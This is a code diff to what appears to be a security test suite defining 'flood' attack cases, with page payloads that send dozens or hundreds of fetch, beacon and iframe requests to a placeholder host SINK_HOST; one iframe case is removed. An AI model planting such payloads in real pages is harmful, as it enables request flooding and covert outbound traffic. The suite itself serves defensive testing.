@@ -11,8 +11,10 @@ export const floods: Family = {
   attacks: floodAttacks([
     {
       id: 'AGT-39a',
-      technique: 'requests to an unlisted host, each after the refusal of the last',
-      page: again("fetch('http://SINK_HOST/' + n, { mode: 'no-cors' }).catch(() => {}).finally(ask)"),
+      technique: 'requests to an unlisted host, thirty at a time, each again after its refusal',
+      page: again(
+        "fetch('http://SINK_HOST/' + n, { mode: 'no-cors' }).catch(() => {}).finally(ask); if (n < 30) ask()",
+      ),
     },
     {
       id: 'AGT-39b',
@@ -23,13 +25,6 @@ export const floods: Family = {
       id: 'AGT-39c',
       technique: 'beacons to an unlisted host, hundreds at once',
       page: again("for (; n < 600; n++) navigator.sendBeacon('http://SINK_HOST/' + n)"),
-    },
-    {
-      id: 'AGT-39d',
-      technique: 'documents of an unlisted host in one frame after another',
-      page: again(
-        "const f = document.createElement('iframe'); f.src = 'http://SINK_HOST/' + n; f.onload = () => { f.remove(); ask(); }; document.body.append(f)",
-      ).replace('<script>', '<body><script>'),
     },
   ]),
   elsewhere: {},
